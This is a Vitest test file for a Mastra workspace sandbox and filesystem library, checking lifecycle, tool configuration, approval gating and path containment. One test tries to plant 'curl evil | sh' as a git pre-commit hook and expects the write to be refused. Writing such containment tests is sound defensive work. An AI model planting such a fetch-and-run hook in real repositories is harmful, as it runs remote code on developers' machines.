// Members that @mastra/core's workspace classes have, with Mastra's semantics: Workspace
// stop()/getPathContext() (and Mastra's shutdown through them), the tools config checked
// wherever tools are built, LocalFilesystem's allowed paths, realpath and text detection,
// ProcessHandle.startTime, LocalSandbox's writeFiles/buildEnv/setWorkingDirectory.
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { Mastra } from '@mastra/core'
import { Agent } from '@mastra/core/agent'
import { afterEach, describe, expect, it } from 'vitest'
import { LocalFilesystem, LocalSandbox, Workspace, WorkspaceError, createWorkspaceTools, isIsolationAvailable } from '../lib/index.mjs'
import { bwrapAbove, freshWorkdir, isAlive, processesWith, survivors, uniqueMarker, useIsolatedSandboxes, useSandboxes, waitFor } from './helpers.mjs'
import { mockModel } from './mock-model.mjs'

const EXEC = 'mastra_workspace_execute_command'
const OUTPUT = 'mastra_workspace_get_process_output'
const KILL = 'mastra_workspace_kill_process'
const WRITE = 'mastra_workspace_write_file'

const makeSandbox = useSandboxes()
const isolated = useIsolatedSandboxes('nw-members-')
const liveWorkspaces = []
afterEach(async () => {
  await Promise.allSettled(liveWorkspaces.splice(0).map((ws) => ws.destroy()))
})
const track = (ws) => (liveWorkspaces.push(ws), ws)

/** Starts `sh -c 'sleep M & sleep M; …'` in the background: a tree of three processes. */
async function spawnTree(sandbox, marker) {
  const handle = await sandbox.processes.spawn(`sleep ${marker} & sleep ${marker}; echo never`)
  await waitFor(() => processesWith(`sleep ${marker}`).filter((p) => p.cmdline.startsWith('sleep')).length === 2)
  return handle
}

describe('Workspace.stop()', () => {
  it('mastra.shutdown() stops our sandbox and ends every process of it', async () => {
    const marker = uniqueMarker()
    const sandbox = makeSandbox()
    const ws = track(new Workspace({ sandbox }))
    const mastra = new Mastra({ workspace: ws, logger: false })
    await ws.init()
    await spawnTree(sandbox, marker)

    await mastra.shutdown()

    expect(sandbox.status).toBe('stopped')
    expect(await survivors([marker])).toEqual([])
    // The workspace stays usable: the next command starts the sandbox again.
    expect(ws.status).toBe('ready')
    expect((await sandbox.executeCommand('echo again')).stdout).toBe('again\n')
    expect(sandbox.status).toBe('running')
  })

  it('concurrent stops share one; after destroy() it does nothing', async () => {
    const sandbox = makeSandbox()
    let stops = 0
    sandbox.setOnStart((prev) => prev)
    const ws = track(new Workspace({ sandbox }))
    await ws.init()
    const original = sandbox.stop.bind(sandbox)
    sandbox._stop = () => (stops++, original())
    await Promise.all([ws.stop(), ws.stop(), ws.stop()])
    expect(stops).toBe(1)
    expect(sandbox.status).toBe('stopped')

    await ws.destroy()
    expect(sandbox.status).toBe('destroyed')
    await ws.stop()
    expect(stops).toBe(1)
    expect(ws.status).toBe('destroyed')
  })

  it('closes a CLI browser and refuses another kind', async () => {
    const closed = []
    const browser = { providerType: 'cli', close: async () => closed.push('closed') }
    const ws = track(new Workspace({ sandbox: makeSandbox(), browser }))
    expect(ws.browser).toBe(browser)
    await ws.stop()
    expect(closed).toEqual(['closed'])
    expect(() => new Workspace({ sandbox: makeSandbox(), browser: { providerType: 'sdk' } })).toThrow(
      expect.objectContaining({ code: 'INVALID_CONFIG', message: expect.stringContaining("providerType: 'cli'") }),
    )
  })
})

describe('Workspace.getPathContext()', () => {
  it('gives the providers, their paths and their instructions', async () => {
    const sandbox = makeSandbox()
    const filesystem = new LocalFilesystem({ basePath: sandbox.workingDirectory })
    const ws = new Workspace({ sandbox, filesystem })
    expect(ws.getPathContext()).toEqual({
      filesystem: { provider: 'local', basePath: sandbox.workingDirectory },
      sandbox: { provider: 'local', workingDirectory: sandbox.workingDirectory },
      instructions: `${filesystem.getInstructions()} ${sandbox.getInstructions()}`,
    })
    expect(new Workspace({ sandbox }).getPathContext()).toEqual({
      filesystem: undefined,
      sandbox: { provider: 'local', workingDirectory: sandbox.workingDirectory },
      instructions: sandbox.getInstructions(),
    })
  })
})

describe('the tools config is checked by the Workspace', () => {
  const invalid = (tools) => {
    try {
      new Workspace({ sandbox: makeSandbox(), tools })
    } catch (err) {
      return err
    }
    return undefined
  }

  it('an unknown tool, an unsupported option or a bad value is a WorkspaceError naming the key', () => {
    const cases = [
      [{ mastra_workspace_execute_comand: { name: 'typo' } }, 'tools.mastra_workspace_execute_comand'],
      [{ [WRITE]: { requireReadBeforeWrite: 'yes' } }, `tools.${WRITE}.requireReadBeforeWrite`],
      [{ hooks: { beforeToolCall: 'log' } }, 'tools.hooks.beforeToolCall'],
      [{ hooks: [] }, 'tools.hooks'],
      [{ writeLockTimeoutMs: 0 }, 'tools.writeLockTimeoutMs'],
      [{ mastra_workspace_read_file: { mediaTypes: 'image/*' } }, 'tools.mastra_workspace_read_file.mediaTypes'],
      [{ mastra_workspace_read_file: { maxMediaBytes: -1 } }, 'tools.mastra_workspace_read_file.maxMediaBytes'],
      [{ [WRITE]: { mediaTypes: ['image/*'] } }, `tools.${WRITE}.mediaTypes`],
      [{ [EXEC]: { enabled: 'yes' } }, `tools.${EXEC}.enabled`],
      [{ [EXEC]: { name: 3 } }, `tools.${EXEC}.name`],
      [{ [EXEC]: { maxOutputTokens: -1 } }, `tools.${EXEC}.maxOutputTokens`],
      [{ [EXEC]: { backgroundProcesses: { onExit: 'log' } } }, `tools.${EXEC}.backgroundProcesses.onExit`],
      [{ [KILL]: { backgroundProcesses: {} } }, `tools.${KILL}.backgroundProcesses`],
      [{ [EXEC]: { nmae: 'bash' } }, `tools.${EXEC}.nmae`],
      [{ requireApproval: 1 }, 'tools.requireApproval'],
    ]
    for (const [tools, key] of cases) {
      const err = invalid(tools)
      expect(err, key).toBeInstanceOf(WorkspaceError)
      expect(err.code).toBe('INVALID_CONFIG')
      expect(err.message).toContain(key)
    }
  })

  it('setToolsConfig() checks the same way, and keeps the old config on refusal', () => {
    const ws = new Workspace({ sandbox: makeSandbox(), tools: { [KILL]: { enabled: false } } })
    expect(() => ws.setToolsConfig({ bogus: {} })).toThrow(WorkspaceError)
    expect(ws.getToolsConfig()).toEqual({ [KILL]: { enabled: false } })
    ws.setToolsConfig(undefined)
    expect(ws.getToolsConfig()).toBeUndefined()
  })

  it('a valid config is accepted, and createWorkspaceTools still checks a workspace that did not', async () => {
    const tools = {
      enabled: true,
      requireApproval: false,
      [EXEC]: { name: 'bash', maxOutputTokens: 500, backgroundProcesses: { onExit: () => {}, abortSignal: false } },
      [KILL]: { enabled: () => true, requireApproval: () => false },
      hooks: { beforeToolCall: () => {}, afterToolCall: async () => {} },
      writeLockTimeoutMs: 10_000,
      [WRITE]: { requireReadBeforeWrite: ({ args }) => args.path !== 'scratch.txt', background: { enabled: false } },
      mastra_workspace_read_file: { mediaTypes: ['image/*'], maxMediaBytes: 1024 },
    }
    expect(new Workspace({ sandbox: makeSandbox(), tools }).getToolsConfig()).toBe(tools)
    const foreign = { getToolsConfig: () => ({ bogus: {} }), hasFilesystemConfig: () => false }
    await expect(createWorkspaceTools(foreign)).rejects.toMatchObject({ code: 'INVALID_CONFIG' })
  })
})

describe('the tools config through a Mastra Agent', () => {
  const agentWith = (model, workspace) =>
    new Agent({ id: 'members-agent', name: 'members-agent', instructions: 'You run commands.', model, workspace })

  it('name and enabled shape the tools the model is offered, and the renamed tool runs', async () => {
    const sandbox = makeSandbox()
    const ws = track(new Workspace({ sandbox, tools: { [EXEC]: { name: 'bash' }, [KILL]: { enabled: false } } }))
    const { model, turns } = mockModel([{ toolName: 'bash', input: { command: 'echo via-bash > out.txt; cat out.txt' } }])
    const result = await agentWith(model, ws).generate('go')
    expect(turns[0].tools).toEqual(['bash', OUTPUT])
    expect(result.text).toBe('The command printed: via-bash\n')
    expect(fs.readFileSync(path.join(sandbox.workingDirectory, 'out.txt'), 'utf8')).toBe('via-bash\n')
  })

  it('top-level enabled: false offers no workspace tool', async () => {
    const ws = track(new Workspace({ sandbox: makeSandbox(), tools: { enabled: false } }))
    const { model, turns } = mockModel([])
    await agentWith(model, ws).generate('go')
    expect(turns[0].tools).toEqual([])
  })

  it('requireApproval suspends the call: the command does not run', async () => {
    const sandbox = makeSandbox()
    const ws = track(new Workspace({ sandbox, tools: { [EXEC]: { requireApproval: true } } }))
    const { model } = mockModel('touch approved.txt')
    const output = await agentWith(model, ws).stream('go')
    const chunks = []
    for await (const chunk of output.fullStream) chunks.push(chunk.type)
    expect(chunks).toContain('tool-call-approval')
    expect(fs.existsSync(path.join(sandbox.workingDirectory, 'approved.txt'))).toBe(false)
  })

  it('enabled and requireApproval given as functions decide per workspace and per call', async () => {
    const sandbox = makeSandbox()
    const decisions = []
    const ws = track(
      new Workspace({
        sandbox,
        tools: {
          [KILL]: { enabled: ({ workspace }) => workspace !== ws },
          [EXEC]: { requireApproval: ({ args }) => (decisions.push(args.command), args.command.startsWith('rm ')) },
        },
      }),
    )
    const run = async (command) => {
      const { model, turns } = mockModel(command)
      const output = await agentWith(model, ws).stream('go')
      const types = []
      for await (const chunk of output.fullStream) types.push(chunk.type)
      return { types, turns }
    }
    fs.mkdirSync(sandbox.workingDirectory, { recursive: true })
    fs.writeFileSync(path.join(sandbox.workingDirectory, 'keep.txt'), 'kept')
    const allowed = await run('touch made.txt')
    expect(allowed.turns[0].tools).toEqual([EXEC, OUTPUT])
    expect(allowed.types).not.toContain('tool-call-approval')
    expect(fs.existsSync(path.join(sandbox.workingDirectory, 'made.txt'))).toBe(true)
    const held = await run('rm keep.txt')
    expect(held.types).toContain('tool-call-approval')
    expect(fs.existsSync(path.join(sandbox.workingDirectory, 'keep.txt'))).toBe(true)
    expect(decisions).toEqual(['touch made.txt', 'rm keep.txt'])
  })

  it('maxOutputTokens bounds the output the model gets', async () => {
    const ws = track(new Workspace({ sandbox: makeSandbox(), tools: { [EXEC]: { maxOutputTokens: 20 } } }))
    const { model, turns } = mockModel('seq 1 2000')
    await agentWith(model, ws).generate('go')
    const value = turns[1].toolResults[0].output.value
    expect(value.length).toBeLessThan(400)
    expect(value).toContain('2000')
  })

  it('backgroundProcesses.onExit is called for a background command the Agent starts', async () => {
    let resolveExit
    const exited = new Promise((resolve) => (resolveExit = resolve))
    const ws = track(
      new Workspace({ sandbox: makeSandbox(), tools: { [EXEC]: { backgroundProcesses: { onExit: resolveExit } } } }),
    )
    const { model } = mockModel([{ toolName: EXEC, input: { command: 'echo from-bg', background: true } }])
    await agentWith(model, ws).generate('go')
    expect(await exited).toMatchObject({ exitCode: 0, stdout: 'from-bg\n' })
  })
})

describe('ProcessHandle.startTime', () => {
  it('is when the process started, for spawned processes and for what a command left running', async () => {
    const sandbox = makeSandbox()
    const before = Date.now()
    const handle = await sandbox.processes.spawn('sleep 0.2; echo done')
    const after = Date.now()
    expect(handle.startTime).toBeGreaterThanOrEqual(before)
    expect(handle.startTime).toBeLessThanOrEqual(after)
    const result = await handle.wait()
    // The start and the run time add up to (about) the end.
    expect(handle.startTime + result.executionTimeMs).toBeLessThanOrEqual(Date.now() + 5)
    expect((await sandbox.processes.get(handle.pid)).startTime).toBe(handle.startTime)

    const marker = uniqueMarker()
    const commandStart = Date.now()
    const { leftRunning } = await sandbox.executeCommand(`sleep ${marker} >/dev/null 2>&1 & echo started`)
    const leftover = await sandbox.processes.get(leftRunning.pid)
    expect(leftover.startTime).toBeGreaterThanOrEqual(commandStart)
    expect(leftover.startTime).toBeLessThanOrEqual(Date.now())
  })

  it('emitStdout/emitStderr cannot feed a native process: a typed error, the output unchanged', async () => {
    const handle = await makeSandbox().processes.spawn('echo real')
    await handle.wait()
    expect(() => handle.emitStdout('fake')).toThrow(expect.objectContaining({ code: 'UNSUPPORTED_FEATURE' }))
    expect(() => handle.emitStderr('fake')).toThrow(expect.objectContaining({ code: 'UNSUPPORTED_FEATURE' }))
    expect(handle.stdout).toBe('real\n')
    expect(handle.stderr).toBe('')
  })
})

describe('LocalSandbox.buildEnv()', () => {
  it('is the host PATH, then env, then the setEnv overlay, then the extra env — what a command gets', async () => {
    const sandbox = makeSandbox({ env: { A: 'env', B: 'env', C: 'env' } })
    sandbox.setEnv(() => ({ B: 'overlay', C: 'overlay' }))
    const built = sandbox.buildEnv({ C: 'extra', D: 'extra' })
    expect(built).toEqual({ PATH: process.env.PATH, A: 'env', B: 'overlay', C: 'extra', D: 'extra' })
    expect(process.env.HOME === undefined || !('HOME' in built)).toBe(true)
    const { stdout } = await sandbox.executeCommand('env', [], { env: { C: 'extra', D: 'extra' } })
    const seen = Object.fromEntries(stdout.trim().split('\n').map((line) => line.split(/=(.*)/s).slice(0, 2)))
    for (const [key, value] of Object.entries(built)) expect(seen[key], key).toBe(value)
    expect(() => sandbox.buildEnv({ X: 1 })).toThrow(expect.objectContaining({ code: 'INVALID_OPTION', message: expect.stringContaining('additionalEnv.X') }))
    // An env that cannot be read at all is the same typed error, and changes nothing.
    const revoked = Proxy.revocable({}, {})
    revoked.revoke()
    expect(() => sandbox.buildEnv(revoked.proxy)).toThrow(expect.objectContaining({ code: 'INVALID_OPTION', message: expect.stringMatching(/^additionalEnv could not be read: /) }))
    expect(sandbox.buildEnv({ C: 'extra', D: 'extra' })).toEqual(built)
  })
})

describe('LocalSandbox.setWorkingDirectory()', () => {
  it('before the first start it moves the sandbox; once started it is refused and nothing changes', async () => {
    const sandbox = makeSandbox()
    const target = freshWorkdir()
    sandbox.setWorkingDirectory(target)
    expect(sandbox.workingDirectory).toBe(target)
    expect((await sandbox.executeCommand('pwd')).stdout).toBe(`${target}\n`)

    const other = freshWorkdir()
    expect(() => sandbox.setWorkingDirectory(other)).toThrow(expect.objectContaining({ code: 'INVALID_STATE' }))
    expect(sandbox.workingDirectory).toBe(target)
    expect((await sandbox.executeCommand('pwd')).stdout).toBe(`${target}\n`)
    expect(fs.existsSync(other)).toBe(false)
  })
})

describe('LocalSandbox.wrapCommandForIsolation()', () => {
  it('without isolation a command runs as given; otherwise it says commands are not wrapped', () => {
    expect(makeSandbox().wrapCommandForIsolation('ls -la')).toEqual({ command: 'ls -la', args: [] })
    expect(() => makeSandbox().wrapCommandForIsolation('')).toThrow(expect.objectContaining({ code: 'INVALID_OPTION' }))
  })
})

describe('LocalSandbox.writeFiles()', () => {
  it('writes strings and bytes under the working directory, creating parents and replacing files', async () => {
    const idle = makeSandbox()
    await idle.writeFiles([])
    expect(idle.status).toBe('pending')
    expect(fs.existsSync(idle.workingDirectory)).toBe(false)
    const sandbox = makeSandbox()
    const root = sandbox.workingDirectory
    const bytes = new Uint8Array([0, 255, 1, 2]).subarray(1, 3)
    await sandbox.writeFiles([
      { path: 'a/b/c.txt', content: 'hello' },
      { path: path.join(root, 'bin.dat'), content: bytes },
      { path: 'buf.txt', content: Buffer.from('buffer') },
    ])
    expect(fs.readFileSync(path.join(root, 'a/b/c.txt'), 'utf8')).toBe('hello')
    expect([...fs.readFileSync(path.join(root, 'bin.dat'))]).toEqual([255, 1])
    expect(fs.readFileSync(path.join(root, 'buf.txt'), 'utf8')).toBe('buffer')
    await sandbox.writeFiles([{ path: 'a/b/c.txt', content: 'again' }])
    expect((await sandbox.executeCommand('cat a/b/c.txt')).stdout).toBe('again')
    // Of two entries for one file, the later one wins (the writes run several at once).
    const many = Array.from({ length: 40 }, (_, i) => ({ path: i % 2 ? 'same.txt' : `./x/../same.txt`, content: `v${i}` }))
    await sandbox.writeFiles(many)
    expect(fs.readFileSync(path.join(root, 'same.txt'), 'utf8')).toBe('v39')
  })

  it('writes nothing outside the working directory: .., other absolute paths, symlinks out', async () => {
    const sandbox = makeSandbox()
    const root = sandbox.workingDirectory
    const outside = path.join(path.dirname(root), 'outside')
    fs.mkdirSync(outside)
    await sandbox.start()
    fs.symlinkSync(outside, path.join(root, 'link'))
    fs.symlinkSync(path.join(outside, 'target.txt'), path.join(root, 'file-link'))
    for (const bad of ['../outside/a.txt', path.join(outside, 'b.txt'), 'link/c.txt', 'file-link', root, '.']) {
      const err = await sandbox.writeFiles([{ path: bad, content: 'escaped' }]).catch((e) => e)
      expect(err?.code, bad).toBe('EACCES')
    }
    expect(fs.readdirSync(outside)).toEqual([])
    // A bad path anywhere in the list: nothing of the list is written.
    await expect(sandbox.writeFiles([{ path: 'ok.txt', content: 'x' }, { path: '../no.txt', content: 'x' }])).rejects.toMatchObject({ code: 'EACCES' })
    expect(fs.existsSync(path.join(root, 'ok.txt'))).toBe(false)
  })

  it('mode gives a file exactly those permission bits, new or existing, whatever the umask', async () => {
    const sandbox = makeSandbox()
    const root = sandbox.workingDirectory
    const previous = process.umask(0o077)
    try {
      await sandbox.writeFiles([
        { path: 'run.sh', content: '#!/bin/sh\necho ran\n', mode: 0o755 },
        { path: 'plain.txt', content: 'x' },
      ])
    } finally {
      process.umask(previous)
    }
    expect(fs.statSync(path.join(root, 'run.sh')).mode & 0o7777).toBe(0o755)
    expect((await sandbox.executeCommand('./run.sh')).stdout).toBe('ran\n')
    await sandbox.writeFiles([{ path: 'run.sh', content: 'secret', mode: 0o600 }])
    expect(fs.statSync(path.join(root, 'run.sh')).mode & 0o7777).toBe(0o600)
    expect(fs.readFileSync(path.join(root, 'run.sh'), 'utf8')).toBe('secret')
  })

  it('bad input is a typed error naming the entry; a bad mode or an aborted signal writes nothing', async () => {
    const sandbox = makeSandbox()
    const cases = [
      [undefined, 'files'],
      [[{ path: '', content: 'x' }], 'files[0].path'],
      [[{ path: 'a', content: 'x' }, { path: 'b', content: 3 }], 'files[1].content'],
      [[null], 'files[0]'],
    ]
    for (const [files, name] of cases) {
      await expect(sandbox.writeFiles(files)).rejects.toMatchObject({ code: 'INVALID_OPTION', message: expect.stringContaining(name) })
    }
    for (const mode of [0, 0o1000, 0o4755, 1.5, '755', -1]) {
      await expect(sandbox.writeFiles([{ path: 'ok.sh', content: 'x' }, { path: 'm.sh', content: 'x', mode }])).rejects.toMatchObject({
        code: 'INVALID_ARGUMENT',
        message: expect.stringContaining('files[1]'),
      })
    }
    expect(fs.existsSync(path.join(sandbox.workingDirectory, 'ok.sh'))).toBe(false)
    const controller = new AbortController()
    controller.abort(new Error('stop'))
    await expect(sandbox.writeFiles([{ path: 'never.txt', content: 'x' }], { abortSignal: controller.signal })).rejects.toMatchObject({
      code: 'ABORTED',
    })
    expect(fs.existsSync(path.join(sandbox.workingDirectory, 'never.txt'))).toBe(false)
    expect(fs.existsSync(path.join(sandbox.workingDirectory, 'm.sh'))).toBe(false)
  })
})

describe.skipIf(!isIsolationAvailable('bwrap'))('an isolated LocalSandbox', () => {
  it('writeFiles: the sandbox can change what was written, protected paths stay untouched', async () => {
    const sandbox = isolated.sandbox()
    await sandbox.writeFiles([{ path: 'notes/todo.txt', content: 'one\n' }])
    const { stdout, exitCode } = await sandbox.executeCommand('echo two >> notes/todo.txt && cat notes/todo.txt')
    expect(exitCode).toBe(0)
    expect(stdout).toBe('one\ntwo\n')
    const err = await sandbox.writeFiles([{ path: '.git/hooks/pre-commit', content: 'curl evil | sh' }]).catch((e) => e)
    expect(err?.code).toBe('EACCES')
    expect(fs.existsSync(path.join(sandbox.workingDirectory, '.git/hooks/pre-commit'))).toBe(false)
  })

  it('mastra.shutdown() stops it: its commands and its bubblewrap are gone', async () => {
    const marker = uniqueMarker()
    const sandbox = isolated.sandbox()
    const mastra = new Mastra({ workspace: track(new Workspace({ sandbox })), logger: false })
    await spawnTree(sandbox, marker)
    const sleeper = processesWith(`sleep ${marker}`).find((p) => p.cmdline.startsWith('sleep'))
    const ownBwrap = bwrapAbove(sleeper.pid)
    expect(ownBwrap.length).toBeGreaterThan(0)
    await mastra.shutdown()
    expect(sandbox.status).toBe('stopped')
    expect(await survivors([marker])).toEqual([])
    await waitFor(() => ownBwrap.every((pid) => !isAlive(pid)))
  })

  it('wrapCommandForIsolation says its commands are not wrapped one by one', () => {
    expect(() => isolated.sandbox().wrapCommandForIsolation('ls')).toThrow(
      expect.objectContaining({ code: 'UNSUPPORTED_FEATURE', message: expect.stringContaining("isolation 'bwrap'") }),
    )
  })
})

describe('LocalFilesystem: allowed paths, realpath, text files, lifecycle', () => {
  const made = []
  afterEach(() => made.splice(0).forEach((dir) => fs.rmSync(dir, { recursive: true, force: true })))
  /** base/ (the workspace), shared/ (to allow), host/secret.txt (never to reach). */
  function layout() {
    const top = fs.mkdtempSync(path.join(os.tmpdir(), 'nw-members-lfs-'))
    made.push(top)
    const dirs = { top, base: path.join(top, 'base'), shared: path.join(top, 'shared'), host: path.join(top, 'host') }
    for (const dir of [dirs.base, dirs.shared, dirs.host]) fs.mkdirSync(dir)
    fs.writeFileSync(path.join(dirs.shared, 'doc.txt'), 'shared doc')
    fs.writeFileSync(path.join(dirs.host, 'secret.txt'), 'host secret')
    return dirs
  }
  const codeOf = (promise) => promise.then(() => 'resolved', (err) => err.code)

  it('allowedPaths widen the reach to those directories, by absolute or relative path, and no further', async () => {
    const { base, shared, host } = layout()
    const lfs = new LocalFilesystem({ basePath: base, allowedPaths: [shared] })
    expect(lfs.allowedPaths).toEqual([shared])
    expect(await lfs.readFile(path.join(shared, 'doc.txt'), { encoding: 'utf-8' })).toBe('shared doc')
    expect(await lfs.readFile('../shared/doc.txt', { encoding: 'utf-8' })).toBe('shared doc')
    await lfs.writeFile(path.join(shared, 'new/note.txt'), 'written')
    expect(fs.readFileSync(path.join(shared, 'new/note.txt'), 'utf8')).toBe('written')
    expect((await lfs.readdir('../shared')).map((e) => e.name)).toEqual(['doc.txt', 'new'])
    expect(await lfs.exists('../shared/doc.txt')).toBe(true)
    expect((await lfs.stat(path.join(shared, 'doc.txt'))).type).toBe('file')
    // Moving between basePath and an allowed path: the file arrives, the source goes.
    await lfs.moveFile('../shared/new/note.txt', 'moved.txt')
    expect(fs.readFileSync(path.join(base, 'moved.txt'), 'utf8')).toBe('written')
    expect(fs.existsSync(path.join(shared, 'new/note.txt'))).toBe(false)

    for (const outside of [path.join(host, 'secret.txt'), '../host/secret.txt', `${shared}-sibling/x`]) {
      expect(await codeOf(lfs.readFile(outside)), outside).toBe('EACCES')
      expect(await codeOf(lfs.writeFile(outside, 'x')), outside).toBe('EACCES')
    }
    expect(fs.existsSync(`${shared}-sibling`)).toBe(false)
    expect(lfs.getInfo().metadata).toEqual({ basePath: base, contained: true, allowedPaths: [shared] })
    expect(lfs.getInstructions()).toContain(shared)
  })

  it('symlinks leading out of an allowed path (or into it from basePath) are refused; the host is untouched', async () => {
    const { base, shared, host } = layout()
    const lfs = new LocalFilesystem({ basePath: base, allowedPaths: [shared] })
    fs.symlinkSync(host, path.join(shared, 'to-host'))
    fs.symlinkSync(shared, path.join(base, 'to-shared'))
    expect(await codeOf(lfs.readFile('../shared/to-host/secret.txt'))).toBe('EACCES')
    expect(await codeOf(lfs.writeFile('../shared/to-host/planted.txt', 'x'))).toBe('EACCES')
    expect(await codeOf(lfs.readFile('to-shared/doc.txt'))).toBe('EACCES')
    expect(fs.readdirSync(host)).toEqual(['secret.txt'])
    expect(lfs.resolveAbsolutePath('../shared/to-host/secret.txt')).toBeUndefined()
    expect(await codeOf(lfs.realpath('../shared/to-host/secret.txt'))).toBe('EACCES')
  })

  it('a missing allowed path reads as missing and is not created by reading; a write creates it', async () => {
    const { base, top } = layout()
    const later = path.join(top, 'later')
    const lfs = new LocalFilesystem({ basePath: base, allowedPaths: [later] })
    expect(await codeOf(lfs.readFile(path.join(later, 'a.txt')))).toBe('ENOENT')
    expect(await lfs.exists(path.join(later, 'a.txt'))).toBe(false)
    expect(await codeOf(lfs.readdir(later))).toBe('ENOENT')
    await lfs.deleteFile(path.join(later, 'a.txt'), { force: true })
    expect(fs.existsSync(later)).toBe(false)
    await lfs.writeFile(path.join(later, 'a.txt'), 'now')
    expect(fs.readFileSync(path.join(later, 'a.txt'), 'utf8')).toBe('now')
  })

  it('a read-only filesystem refuses a write under a missing allowed path as read-only, and creates nothing', async () => {
    const { base, top } = layout()
    const later = path.join(top, 'later-ro')
    const lfs = new LocalFilesystem({ basePath: base, readOnly: true, allowedPaths: [later] })
    for (const [write, operation] of [
      [() => lfs.writeFile(path.join(later, 'a.txt'), 'x'), 'writeFile'],
      [() => lfs.appendFile(path.join(later, 'a.txt'), 'x'), 'appendFile'],
      [() => lfs.mkdir(path.join(later, 'd')), 'mkdir'],
    ]) {
      const err = await write().catch((e) => e)
      expect([err.name, err.code, err.message]).toEqual(['WorkspaceReadOnlyError', 'READ_ONLY', `Workspace is in read-only mode. Cannot perform: ${operation}`])
    }
    expect(fs.existsSync(later)).toBe(false)
  })

  it('protected paths of basePath stay protected when reached through an allowed path around it', async () => {
    const { base, top } = layout()
    fs.mkdirSync(path.join(base, '.git/hooks'), { recursive: true })
    const lfs = new LocalFilesystem({ basePath: base, allowedPaths: [top], protectedPaths: ['.git/hooks'] })
    fs.symlinkSync(path.join(base, '.git'), path.join(top, 'git-link'))
    expect(await codeOf(lfs.writeFile(path.join(top, 'git-link/hooks/pre-commit'), 'x'))).toBe('EACCES')
    expect(await codeOf(lfs.writeFile(path.join(top, 'base/.git/hooks/pre-commit'), 'x'))).toBe('EACCES')
    expect(fs.readdirSync(path.join(base, '.git/hooks'))).toEqual([])
  })

  it('setAllowedPaths replaces the list (or updates it); a path taken away is refused again', async () => {
    const { base, shared, top } = layout()
    const lfs = new LocalFilesystem({ basePath: base })
    expect(lfs.allowedPaths).toEqual([])
    expect(await codeOf(lfs.readFile('../shared/doc.txt'))).toBe('EACCES')
    lfs.setAllowedPaths(['../shared'])
    expect(lfs.allowedPaths).toEqual([shared])
    expect(await lfs.readFile('../shared/doc.txt', { encoding: 'utf-8' })).toBe('shared doc')
    lfs.setAllowedPaths((current) => [...current, path.join(top, 'other')])
    expect(lfs.allowedPaths).toEqual([shared, path.join(top, 'other')])
    lfs.setAllowedPaths([])
    expect(await codeOf(lfs.readFile('../shared/doc.txt'))).toBe('EACCES')
    expect(() => lfs.setAllowedPaths([3])).toThrow(expect.objectContaining({ code: 'INVALID_OPTION', message: expect.stringContaining('allowedPaths[0]') }))
  })

  it('resolveAbsolutePath and realpath', async () => {
    const { base, shared, host } = layout()
    const lfs = new LocalFilesystem({ basePath: base, allowedPaths: [shared] })
    await lfs.writeFile('dir/file.txt', 'x')
    fs.symlinkSync('dir/file.txt', path.join(base, 'alias'))
    fs.symlinkSync(host, path.join(base, 'escape'))
    expect(lfs.resolveAbsolutePath('dir/file.txt')).toBe(path.join(base, 'dir/file.txt'))
    expect(lfs.resolveAbsolutePath('not/yet/there.txt')).toBe(path.join(base, 'not/yet/there.txt'))
    expect(lfs.resolveAbsolutePath('../shared/doc.txt')).toBe(path.join(shared, 'doc.txt'))
    expect(lfs.resolveAbsolutePath('../host/secret.txt')).toBeUndefined()
    expect(lfs.resolveAbsolutePath('escape/secret.txt')).toBeUndefined()
    expect(lfs.resolveAbsolutePath('escape/new.txt')).toBeUndefined()

    expect(await lfs.realpath('alias')).toBe('dir/file.txt')
    expect(await lfs.realpath('dir/../alias')).toBe('dir/file.txt')
    expect(await lfs.realpath(path.join(shared, 'doc.txt'))).toBe('../shared/doc.txt')
    expect(await codeOf(lfs.realpath('missing.txt'))).toBe('ENOENT')
    expect(await codeOf(lfs.realpath('escape/secret.txt'))).toBe('EACCES')
    expect(await codeOf(lfs.realpath('../host/secret.txt'))).toBe('EACCES')
  })

  it('isTextFile: the usual text extensions and those of textExtensions', () => {
    const lfs = new LocalFilesystem({ basePath: '/tmp/nw-members-unused', textExtensions: ['SAS7', '.cob'] })
    expect(lfs.isTextFile('a/b/readme.MD')).toBe(true)
    expect(lfs.isTextFile('data.jsonl')).toBe(true)
    expect(lfs.isTextFile('program.cob')).toBe(true)
    expect(lfs.isTextFile('x.sas7')).toBe(true)
    expect(lfs.isTextFile('photo.png')).toBe(false)
    expect(lfs.isTextFile('Makefile')).toBe(false)
    expect(new LocalFilesystem({ basePath: '/tmp/nw-members-unused' }).isTextFile('program.cob')).toBe(false)
  })

  it('_init/_destroy run the hooks once, with status and error', async () => {
    const { base, top } = layout()
    const calls = []
    const lfs = new LocalFilesystem({
      basePath: path.join(base, 'made-at-init'),
      onInit: ({ filesystem }) => calls.push(['init', filesystem.status]),
      onDestroy: ({ filesystem }) => calls.push(['destroy', filesystem.status]),
    })
    await Promise.all([lfs._init(), lfs._init()])
    expect(lfs.status).toBe('ready')
    expect(fs.existsSync(path.join(base, 'made-at-init'))).toBe(true)
    await lfs._destroy()
    await lfs._destroy()
    expect(lfs.status).toBe('destroyed')
    expect(calls).toEqual([
      ['init', 'ready'],
      ['destroy', 'destroying'],
    ])

    // As with Mastra's filesystems, the first operation initialises (and after _destroy(), again).
    const lazy = new LocalFilesystem({ basePath: path.join(base, 'lazy'), onInit: () => calls.push(['lazy-init']) })
    await lfs.writeFile('again.txt', 'x')
    await lazy.writeFile('a.txt', 'x')
    await lazy.exists('a.txt')
    expect(lfs.status).toBe('ready')
    expect(calls.slice(2)).toEqual([['init', 'ready'], ['lazy-init']])

    fs.writeFileSync(path.join(top, 'a-file'), '')
    const failing = new LocalFilesystem({ basePath: path.join(top, 'a-file', 'below') })
    await expect(failing._init()).rejects.toThrow()
    expect(failing.status).toBe('error')
    expect(failing.error).toMatch(/a-file/)
    expect(failing.getInfo().error).toBe(failing.error)
  })
})

describe('Mastra component members', () => {
  it('component, toRawConfig and __setRawConfig, on the sandbox and the filesystem', async () => {
    const { MastraSandbox } = await import('../lib/index.mjs')
    class Remote extends MastraSandbox {
      id = 'remote'
      provider = 'remote'
    }
    for (const component of [makeSandbox(), new LocalFilesystem({ basePath: '/tmp/nw-members-unused' }), new Remote()]) {
      expect(component.component).toBe('WORKSPACE')
      expect(component.toRawConfig()).toBeUndefined()
      const raw = { stored: true }
      component.__setRawConfig(raw)
      expect(component.toRawConfig()).toBe(raw)
    }
    expect(new LocalFilesystem({ basePath: '/tmp/nw-members-unused' }).toRawConfig()).toBeUndefined()
  })
})
